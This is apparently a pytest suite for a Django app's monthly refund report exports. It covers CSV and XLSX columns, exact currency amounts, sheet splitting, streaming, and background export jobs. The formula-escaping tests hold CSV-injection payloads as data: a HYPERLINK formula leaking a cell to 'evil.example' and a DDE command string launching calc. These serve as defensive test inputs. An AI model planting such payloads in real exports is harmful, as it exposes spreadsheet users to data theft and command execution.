"""The refund report's files (issue 13 item 6): columns and exact amounts, formula escaping in CSV
and XLSX, XLSX sheets split at the row limit, and the background export of a large month from
the button to the download link."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from django.test import Client
from openpyxl import load_workbook

from aftersales.celery import app
from tests import factories
from tests.report_data import MONTH, body, csv_rows, succeeded_refund, xlsx_values
from tickets.models import ExportStatus, RefundExport
from tickets.services import refund_export
from tickets.services.refund_export import COLUMNS, escape_formula
from tickets.tasks import report_refund_export

pytestmark = pytest.mark.django_db

DOWNLOAD = "/reports/refunds/download/"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def page_client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def download(user, fmt: str, **params) -> bytes:
    response = page_client(user).get(DOWNLOAD, {"month": "2026-10", "format": fmt, **params})
    assert response.status_code == 200, response
    return body(response)


# --- escaping -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\n=cmd", " \t@x", "＝1+1", HYPERLINK],
)
def test_text_a_spreadsheet_could_run_gets_an_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Damaged", "1200", "a=b", " plain", "'=already", "#1001", "中文 = 说明"])
def test_other_text_is_left_as_it_is(text):
    assert escape_formula(text) == text


def test_formulas_come_out_escaped_in_csv_and_xlsx(finance, shopify_store):
    succeeded_refund(
        shopify_store,
        "10.00",
        reason=HYPERLINK,
        platform_refund_id="+cmd|' /C calc'!A0",
        lines=[("-SKU", 1, "10.00")],
    )
    [row] = csv_rows(download(finance, "csv"))
    assert row["reason"] == "'" + HYPERLINK
    assert row["platform_refund_id"] == "'+cmd|' /C calc'!A0"
    assert row["skus"] == "'-SKU"

    content = download(finance, "xlsx")
    header, values = xlsx_values(content)
    record = dict(zip(header, values, strict=True))
    assert record["reason"] == "'" + HYPERLINK
    assert record["platform_refund_id"] == "'+cmd|' /C calc'!A0"
    # A string cell, never a formula: no <f> element anywhere in the sheet.
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml


def test_control_characters_openpyxl_refuses_are_dropped_from_xlsx_only(finance, shopify_store):
    succeeded_refund(shopify_store, "10.00", reason="bad\x01byte")
    assert csv_rows(download(finance, "csv"))[0]["reason"] == "bad\x01byte"
    assert xlsx_values(download(finance, "xlsx"))[1][COLUMNS.index("reason")] == "badbyte"


# --- columns and amounts ---------------------------------------------------------------------------


def test_csv_has_every_column_with_plain_amounts(finance, shopify_store):
    requester = factories.user_with_role("asker", factories.AGENT, stores=[shopify_store])
    original = succeeded_refund(shopify_store, "5.00")
    refund = succeeded_refund(
        shopify_store,
        "120.00",
        succeeded_at=datetime(2026, 10, 3, 10, 15, 7, 123456, tzinfo=UTC),
        reason="Damaged",
        lines=[("SHIRT-M", 1, "60.00"), ("BELT", 1, "60.00")],
        requested_by=requester,
        approved_by=requester,
        self_approved=True,
        approval_limit="500",
        platform_refund_id="gid://shopify/Refund/1",
        platform_amount="120.0000",
        corrects=original,
    )
    succeeded_refund(shopify_store, "1200", currency="JPY")
    succeeded_refund(shopify_store, "1.250", currency="KWD")

    rows = csv_rows(download(finance, "csv"))

    assert list(rows[0]) == list(COLUMNS)
    row = next(r for r in rows if r["refund_id"] == str(refund.pk))
    assert row == {
        "refund_id": str(refund.pk),
        "ticket_number": str(refund.ticket.number),
        "order_number": refund.order.number,
        "store": "Acme Shopify",
        "platform": "shopify",
        "attribution_month": "2026-10",
        "succeeded_at_utc": "2026-10-03T10:15:07Z",
        "amount": "120.00",
        "currency": "USD",
        "kind": "partial",
        "method": "original_payment",
        "reason": "Damaged",
        "skus": "BELT, SHIRT-M",
        "requested_by": "asker",
        "approved_by": "asker",
        "self_approved": "true",
        "platform_refund_id": "gid://shopify/Refund/1",
        "platform_amount": "120.00",
        "corrects_refund_id": str(original.pk),
    }
    assert {r["currency"]: r["amount"] for r in rows if r["currency"] != "USD"} == {"JPY": "1200", "KWD": "1.250"}


def test_a_refund_without_attribution_month_is_listed_under_the_month_it_counts_in(finance, shopify_store):
    succeeded_refund(shopify_store, "3.00", month=None, succeeded_at=datetime(2026, 10, 31, 23, 59, tzinfo=UTC))
    [row] = csv_rows(download(finance, "csv"))
    assert row["attribution_month"] == "2026-10"


def test_xlsx_amounts_are_exact_numbers_with_the_currencys_decimals(finance, shopify_store):
    # 8828.13 is one that a float written with 16 digits turns into 8828.129999999999.
    succeeded_refund(shopify_store, "8828.13")
    succeeded_refund(shopify_store, "1200", currency="JPY")
    succeeded_refund(shopify_store, "1.250", currency="KWD")
    content = download(finance, "xlsx")

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>8828.13</v>" in sheet_xml and "<v>1200</v>" in sheet_xml and "<v>1.250</v>" in sheet_xml
    worksheet = load_workbook(io.BytesIO(content)).worksheets[0]
    amount = COLUMNS.index("amount") + 1
    cells = {worksheet.cell(row, COLUMNS.index("currency") + 1).value: worksheet.cell(row, amount) for row in (2, 3, 4)}
    assert cells["USD"].value == 8828.13 and cells["USD"].number_format == "#,##0.00"
    assert cells["JPY"].value == 1200 and cells["JPY"].number_format == "#,##0"
    assert cells["KWD"].value == 1.25 and cells["KWD"].number_format == "#,##0.000"


def test_xlsx_starts_a_new_sheet_at_the_row_limit(finance, shopify_store, monkeypatch):
    monkeypatch.setattr(refund_export, "EXCEL_MAX_ROWS", 3)  # a header and two refunds per sheet
    refunds = [succeeded_refund(shopify_store, f"{n}.00") for n in range(1, 6)]
    content = download(finance, "xlsx")

    workbook = load_workbook(io.BytesIO(content), read_only=True)
    assert workbook.sheetnames == ["Refunds 2026-10", "Refunds 2026-10 (2)", "Refunds 2026-10 (3)"]
    sheets = [xlsx_values(content, i) for i in range(3)]
    assert all(sheet[0] == list(COLUMNS) for sheet in sheets)
    assert [len(sheet) - 1 for sheet in sheets] == [2, 2, 1]
    ids = [row[0] for sheet in sheets for row in sheet[1:]]
    assert ids == [refund.pk for refund in refunds]


def test_an_empty_month_is_a_header_only_file(finance):
    assert csv_rows(download(finance, "csv")) == []
    assert xlsx_values(download(finance, "xlsx")) == [list(COLUMNS)]


def test_files_are_attachments_named_for_the_month(finance, shopify_store):
    response = page_client(finance).get(DOWNLOAD, {"month": "2026-10", "format": "xlsx"})
    assert response["Content-Disposition"] == 'attachment; filename="refunds-2026-10.xlsx"'
    assert response["Content-Type"] == refund_export.CONTENT_TYPES["xlsx"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.streaming


def test_the_csv_is_streamed_in_pieces(finance, shopify_store, monkeypatch):
    monkeypatch.setattr(refund_export, "CHUNK", 2)
    for n in range(5):
        succeeded_refund(shopify_store, f"{n + 1}.00")
    response = page_client(finance).get(DOWNLOAD, {"month": "2026-10", "format": "csv"})
    pieces = list(response.streaming_content)
    assert len(pieces) == 4  # the header, then 2 + 2 + 1 rows
    assert len(csv_rows(b"".join(pieces))) == 5


# --- a month too large for one request --------------------------------------------------------------


@pytest.fixture
def large(settings, shopify_store):
    settings.EXPORT_INLINE_ROWS = 2
    return [succeeded_refund(shopify_store, f"{n}.00", reason=f"r{n}") for n in range(1, 4)]


def test_a_large_month_offers_a_background_export_instead_of_links(finance, large):
    html = page_client(finance).get("/reports/refunds/", {"month": "2026-10"}).content.decode()
    assert 'action="/reports/refunds/exports/"' in html
    assert 'data-export="csv"' in html and 'value="csv"' in html
    assert "/reports/refunds/download/" not in html


def test_a_direct_download_of_a_large_month_goes_back_to_the_export(finance, large):
    response = page_client(finance).get(DOWNLOAD, {"month": "2026-10", "format": "csv"})
    assert response.status_code == 302 and response["Location"].endswith("month=2026-10#exports")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_task_end_to_end(finance, large, fmt, django_capture_on_commit_callbacks, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    client = page_client(finance)

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(
            "/reports/refunds/exports/", {"month": "2026-10", "format": fmt}, headers={"HX-Request": "true"}
        )
    assert response.status_code == 200
    export = RefundExport.objects.get()
    assert (export.status, export.format, export.rows_total, export.month) == ("queued", fmt, 3, MONTH)
    assert len(callbacks) == 1  # the task is sent once the row is committed
    html = response.content.decode()
    assert f'hx-get="/reports/refunds/exports/progress/?id={export.pk}"' in html and "<progress" in html

    assert report_refund_export.apply(args=[export.pk]).get() == "done"  # what the reports worker runs

    export.refresh_from_db()
    assert (export.status, export.rows_done, export.rows_total) == ("done", 3, 3)
    progress = client.get("/reports/refunds/exports/progress/", {"id": export.pk}).content.decode()
    assert "hx-trigger" not in progress  # done: the polling stops
    assert f'href="/reports/refunds/exports/file/?id={export.pk}"' in progress
    assert f'data-export-file="{fmt}"' in progress

    file = client.get("/reports/refunds/exports/file/", {"id": export.pk})
    assert file.status_code == 200
    assert file["Content-Disposition"] == f'attachment; filename="refunds-2026-10.{fmt}"'
    content = body(file)
    reasons = (
        [row["reason"] for row in csv_rows(content)]
        if fmt == "csv"
        else [row[COLUMNS.index("reason")] for row in xlsx_values(content)[1:]]
    )
    assert reasons == ["r1", "r2", "r3"]


def test_the_export_shows_its_progress_while_it_runs(finance, large):
    export = RefundExport.objects.create(
        requested_by=finance,
        month=MONTH,
        format="csv",
        status=ExportStatus.RUNNING,
        rows_total=3,
        rows_done=2,
        store_ids=list(finance.store_memberships.values_list("store_id", flat=True)),
    )
    html = page_client(finance).get("/reports/refunds/exports/progress/", {"id": export.pk}).content.decode()
    assert '<progress max="3" value="2"' in html and 'hx-trigger="every 1s"' in html
    # ...and on the page, so one can leave and come back to it.
    assert (
        f'id="export-{export.pk}"'
        in page_client(finance).get("/reports/refunds/", {"month": "2026-10"}).content.decode()
    )


def test_an_export_is_only_for_the_user_who_asked(finance, supervisor, large, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    export = refund_export.start_export(user=finance, month=MONTH, fmt="csv")
    refund_export.run_export(export.pk)
    other = page_client(supervisor)
    assert other.get("/reports/refunds/exports/progress/", {"id": export.pk}).status_code == 404
    assert other.get("/reports/refunds/exports/file/", {"id": export.pk}).status_code == 404
    assert page_client(finance).get("/reports/refunds/exports/file/", {"id": export.pk}).status_code == 200


def test_an_export_is_limited_to_the_stores_of_the_user_who_asked(shopify_store, ebay_store, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    own = factories.user_with_role("fin_a", factories.FINANCE, stores=[shopify_store])
    succeeded_refund(shopify_store, "1.00", reason="ours")
    succeeded_refund(ebay_store, "2.00", reason="theirs")
    export = refund_export.start_export(user=own, month=MONTH, fmt="csv")
    refund_export.run_export(export.pk)
    content = body(page_client(own).get("/reports/refunds/exports/file/", {"id": export.pk}))
    assert [row["reason"] for row in csv_rows(content)] == ["ours"]


def test_running_an_export_twice_writes_it_once(finance, large, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    export = refund_export.start_export(user=finance, month=MONTH, fmt="csv")
    assert refund_export.run_export(export.pk) == "done"
    assert refund_export.run_export(export.pk) == "skipped"
    assert [p.name for p in (tmp_path / "exports").iterdir()] == [f"refunds-2026-10-{export.pk}.csv"]


def test_an_export_for_someone_who_lost_the_permission_fails_and_says_why(finance, large, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    export = refund_export.start_export(user=finance, month=MONTH, fmt="csv")
    finance.groups.clear()
    assert refund_export.run_export(export.pk) == "failed"
    export.refresh_from_db()
    assert export.status == "failed" and export.error
    assert not list((tmp_path / "exports").glob("*")) if (tmp_path / "exports").exists() else True


def test_the_export_task_goes_to_the_reports_queue():
    route = app.amqp.router.route({}, refund_export.EXPORT_TASK)
    assert route["queue"].name == "reports"


def test_export_start_refuses_a_format_it_does_not_make(finance, large):
    response = page_client(finance).post("/reports/refunds/exports/", {"month": "2026-10", "format": "pdf"})
    assert response.status_code == 302
    assert not RefundExport.objects.exists()


def test_series_month_boundaries_do_not_leak_into_the_export(finance, shopify_store):
    succeeded_refund(shopify_store, "1.00", month=date(2026, 9, 1))
    succeeded_refund(shopify_store, "2.00", month=date(2026, 11, 1))
    assert csv_rows(download(finance, "csv")) == []


def test_csv_quotes_text_with_commas_quotes_and_line_breaks(finance, shopify_store):
    reason = 'He said "no, never",\r\nthen 退货'
    refund = succeeded_refund(shopify_store, "10.00", reason=reason, lines=[("A,1", 1, "5.00"), ("B", 1, "5.00")])
    refund.order.number = "#1,001"
    refund.order.save()
    [row] = csv_rows(download(finance, "csv"))
    assert (row["reason"], row["skus"], row["order_number"]) == (reason, "A,1, B", "#1,001")
    assert len(row) == len(COLUMNS)
